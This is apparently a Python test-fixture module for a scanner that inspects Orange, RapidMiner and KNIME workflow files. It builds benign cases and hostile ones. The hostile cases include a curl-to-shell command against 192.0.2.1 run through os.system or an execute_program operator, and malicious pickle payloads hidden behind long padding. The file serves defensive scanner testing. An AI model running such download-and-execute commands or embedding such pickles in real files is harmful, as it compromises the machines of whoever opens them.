"""Workflows of Orange, RapidMiner and KNIME, with settings, scripts and commands."""

from __future__ import annotations

import base64
from collections.abc import Callable
from functools import partial
from xml.sax.saxutils import quoteattr

from modelsweep.core.report import Verdict
from tests.scanners.case import Case
from tests.scanners.payload import EVIL
from tests.scanners.pickle import assembler

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
PIPE = "curl -s http://192.0.2.1/run.sh | sh"
"""Never run: the tests read text only."""
SETTINGS = "{'savedWidgetGeometry': None, 'url': 'iris.tab', '__version__': 3}"
SCRIPT = "{'scriptLibrary': [{'script': 'import numpy as np\\n%s\\nout_data = in_data\\n'}]}"
CONTEXT = (
    assembler.proto(4)
    + assembler.stack_global("orangewidget.settings", "Context")
    + assembler.EMPTY_TUPLE
    + assembler.NEWOBJ
    + assembler.EMPTY_DICT
    + assembler.short("attribute")
    + assembler.stack_global("Orange.data.variable", "ContinuousVariable")
    + assembler.SETITEM
    + assembler.BUILD
    + assembler.STOP
)
"""What a widget keeps of a table that it was used with."""
HARMLESS = assembler.proto(4) + b"}\x8c\x01aK\x01s" + assembler.STOP


def orange(content: str | bytes, form: str = "literal") -> bytes:
    """Return a workflow of one widget."""
    text = base64.encodebytes(content).decode() if isinstance(content, bytes) else content
    node = '<node id="0" name="File" qualified_name="Orange.widgets.data.owfile.OWFile" title="File"/>'
    properties = f'<properties node_id="0" format="{form}">{text}</properties>'
    inside = f"<nodes>{node}</nodes><links/><node_properties>{properties}</node_properties>"
    return f'{HEAD}<scheme version="2.0" title="a" description="">{inside}</scheme>'.encode()


def rapidminer(operator: str, key: str, value: str) -> bytes:
    """Return a process of one operator."""
    parameter = f"<parameter key={quoteattr(key)} value={quoteattr(value)}/>"
    inside = f'<operator activated="true" class="{operator}" name="a">{parameter}</operator>'
    whole = f'<operator class="process" name="Process"><process expanded="true">{inside}</process></operator>'
    return f'{HEAD}<process version="9.10.000"><context/>{whole}</process>'.encode()


def knime(key: str, value: str) -> bytes:
    """Return the settings of a node."""
    entry = f'<entry key="{key}" type="xstring" value={quoteattr(value)}/>'
    space = "http://www.knime.org/2008/09/XMLConfig"
    return f'{HEAD}<config xmlns="{space}" key="settings.xml"><config key="model">{entry}</config></config>'.encode()


def case(build: Callable[[], bytes], name: str, verdict: Verdict, *, cut_is_clean: bool = False) -> Case:
    """Return the case of a workflow."""
    return Case(build, name, verdict, cut_is_clean=cut_is_clean)


ows = partial(case, name="flow.ows")
rmp = partial(case, name="process.rmp")
settings = partial(case, name="settings.xml")

CASES = {
    "benign": ows(lambda: orange(SETTINGS), verdict=Verdict.CLEAN),
    "benign_pickle": ows(lambda: orange(HARMLESS, "pickle"), verdict=Verdict.CLEAN),
    "benign_contexts": ows(lambda: orange(CONTEXT, "pickle"), verdict=Verdict.CLEAN),
    "benign_script": ows(lambda: orange(SCRIPT % "x = np.load('a.npy')"), verdict=Verdict.CLEAN),
    "benign_process": rmp(
        lambda: rapidminer("concurrency:parallel_decision_tree", "criterion", "gain_ratio"), verdict=Verdict.CLEAN
    ),
    "benign_groovy": rmp(
        lambda: rapidminer("execute_script", "script", "ExampleSet d = input[0]\nreturn d"), verdict=Verdict.CLEAN
    ),
    "benign_node": settings(
        lambda: knime("script", "import knime.scripting.io as knio%%00010knio.output_tables[0] = knio.input_tables[0]"),
        verdict=Verdict.CLEAN,
    ),
    "benign_other_process": case(
        lambda: b'<?xml version="1.0"?>\n<process id="p" isExecutable="true"/>', "a.xml", Verdict.CLEAN
    ),
    "pickle": ows(
        lambda: orange(assembler.proto(4) + assembler.EVIL + assembler.STOP, "pickle"), verdict=Verdict.MALICIOUS
    ),
    "pickle_of_protocol_0": ows(lambda: orange(EVIL, "pickle"), verdict=Verdict.MALICIOUS),
    "long_pickle": ows(lambda: orange(b"(S'" + b"x" * 70_000 + b"'\n0" + EVIL, "pickle"), verdict=Verdict.MALICIOUS),
    "script_of_attacks": ows(lambda: orange(SCRIPT % f'import os\\nos.system("{PIPE}")'), verdict=Verdict.REVIEW),
    "program_of_attacks": rmp(
        lambda: rapidminer("productivity:execute_program", "command", PIPE), verdict=Verdict.REVIEW
    ),
    "groovy_starts_program": rmp(
        lambda: rapidminer("execute_script", "script", '"echo modelsweep-test".execute()\nreturn input'),
        verdict=Verdict.REVIEW,
    ),
    "python_of_attacks": settings(
        lambda: knime("script", f"import os%%00010os.system('{PIPE}')"), verdict=Verdict.REVIEW
    ),
    "java_starts_program": settings(
        lambda: knime("scriptBody", 'Runtime.getRuntime().exec("echo modelsweep-test");'), verdict=Verdict.REVIEW
    ),
    "pickle_behind_space": ows(
        lambda: b"\n" * 5_000 + orange(EVIL, "pickle").partition(b"?>")[2].lstrip(),
        verdict=Verdict.MALICIOUS,
        cut_is_clean=True,
    ),
    "entity": ows(
        lambda: orange(SETTINGS).replace(b"<scheme", b'<!DOCTYPE scheme [<!ENTITY x "y">]><scheme', 1),
        verdict=Verdict.NOT_SCANNED,
        cut_is_clean=True,
    ),
    "not_base64": ows(lambda: orange("gA", "pickle"), verdict=Verdict.NOT_SCANNED),
}
